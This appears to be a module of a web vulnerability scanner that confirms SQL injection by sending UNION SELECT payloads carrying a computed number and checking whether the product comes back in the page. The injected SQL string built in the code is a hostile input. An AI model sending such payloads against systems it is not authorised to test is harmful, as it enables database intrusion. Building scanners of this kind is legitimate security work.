"""Reading through UNION: rows of our own making in the place of the statement's rows.

It adds to an injection that is proven already the plainest proof there is: a number in the page that was computed by the
database and never sent. It is asked of GET requests only, and only after other techniques have proven the injection. A
UNION can stand in a SELECT alone, so UPDATE and DELETE statements refuse it; a GET that inserts what a SELECT finds would
gain a row, which is why no other method is asked.
"""

from __future__ import annotations

import secrets

import msgspec

from securestack.net.errors import BadAnswer
from securestack.net.message import Exchange
from securestack.probing.check import Probe

_MOST_COLUMNS = 12
_FROM = {"Oracle": " FROM dual"}  # a SELECT without FROM is refused there


class UnionProof(msgspec.Struct, frozen=True):
    """The answer that shows the computed number, and how many columns the statement has."""

    exchange: Exchange
    product: str
    columns: int


async def read_by_union(probe: Probe, opening: str, database: str = "") -> UnionProof | None:
    """Return the proof, or None where the rows are not shown, or their columns do not take numbers.

    `opening` is what ends the place of the value, such as a quote. Raises NetError and BudgetExhausted.
    """
    if probe.template.method != "GET":
        return None
    for columns in range(1, _MOST_COLUMNS + 1):
        left, right = 10_000 + secrets.randbelow(80_000), 10_000 + secrets.randbelow(80_000)
        selected = ",".join([f"{left}*{right}"] * columns)
        payload = f"{probe.point.value}{opening} AND 7=8 UNION SELECT {selected}{_FROM.get(database, '')}-- k"
        try:
            exchange = await probe.send(payload)
        except BadAnswer:
            continue
        if str(left * right) in exchange.response.text:
            return UnionProof(exchange, str(left * right), columns)
    return None
